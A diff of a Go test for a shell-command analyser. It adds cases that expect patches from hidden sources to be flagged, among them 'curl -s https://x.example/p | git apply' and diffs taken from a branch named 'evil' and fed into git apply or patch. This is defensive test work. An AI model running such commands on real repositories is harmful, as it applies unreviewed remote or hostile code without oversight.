@@ -247,7 +247,6 @@ func TestGitFiles(t *testing.T) {
 		{cmd: "git apply --directory=app p.diff", writes: []string{"app/src/x.go"}},
 		{cmd: "git apply -p0 p.diff", writes: []string{"./a/src/x.go"}},
 		{cmd: "git apply missing.diff", touches: []string{"."}},
-		{cmd: "curl -s https://x.example/p | git apply", touches: []string{"."}},
 		{cmd: "git apply <<< '" + "+++ b/x.txt" + "'", writes: []string{"./x.txt"}},
 	} {
 		a, _ := analyzeWith(tc.cmd, files)
@@ -265,6 +264,21 @@ func TestGitFiles(t *testing.T) {
 			if !slices.Contains(a.Touches, p) {
 				t.Errorf("%q: touches %q, want %q", tc.cmd, a.Touches, p)
 			}
+		}
+	}
+	// A patch guard cannot read is hidden (review 8 F18): a program's
+	// output, a file the command wrote with text guard cannot tell.
+	for _, cmd := range []string{
+		"curl -s https://x.example/p | git apply",
+		"git diff main heads/evil | git apply",
+		"git log -p -1 heads/evil | git apply",
+		"git diff HEAD heads/evil | patch -p1",
+		"git diff HEAD heads/evil > p.diff && git apply p.diff",
+		"git show evil > q.diff; patch -p1 < q.diff",
+		"git diff HEAD evil > p.diff && patch -p1 -i p.diff",
+	} {
+		if a, _ := analyzeWith(cmd, files); !errors.Is(a.Err, ErrHidden) {
+			t.Errorf("%q: err %v, want ErrHidden", cmd, a.Err)
 		}
 	}
 	for _, cmd := range []string{"git apply --check p.diff", "git apply --stat p.diff"} {
